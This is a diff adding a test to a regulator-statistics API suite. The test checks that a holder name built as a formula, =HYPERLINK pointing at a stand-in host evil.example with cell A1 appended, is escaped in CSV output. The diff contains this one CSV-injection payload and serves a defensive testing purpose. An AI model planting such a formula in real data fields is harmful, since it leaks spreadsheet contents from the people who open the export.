@@ -70,4 +70,15 @@ describe('regulator statistics', () => {
     }
     for (const role of ['carrier', 'app', 'business', 'police'] as const) assert.equal((await t.call('GET', '/v1/stats/reports', { role })).status, 403);
   });
+  it('a holder name that looks like a formula is neutralised in the CSV (OWASP CSV injection)', async () => {
+    const evil = '=HYPERLINK("http://evil.example/?"&A1,"open")';
+    const reg = await t.call('POST', '/v1/holders', { role: 'carrier', body: [{ holder: evil, identityLevel: 'documented', use: 'notifications', number: '+8613700000009' }] });
+    assert.equal(reg.status, 201, JSON.stringify(reg.body));
+    const c = await t.call('POST', '/v1/complaints', { role: 'app', body: { caller: '+8613700000009', callee: '+8613911110003', occurredAt: new Date(Date.now() - 3_600_000).toISOString(), consented: false, category: 'spam-ad' } });
+    assert.equal(c.status, 201, JSON.stringify(c.body));
+    const csv = await t.call('GET', '/v1/stats/complaints/holders?format=csv', { role: 'regulator' });
+    assert.equal(csv.status, 200);
+    const line = csv.text.split('\n').find((l: string) => l.includes('HYPERLINK'));
+    assert.equal(line, `"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",1,1,0`);
+  });
 });
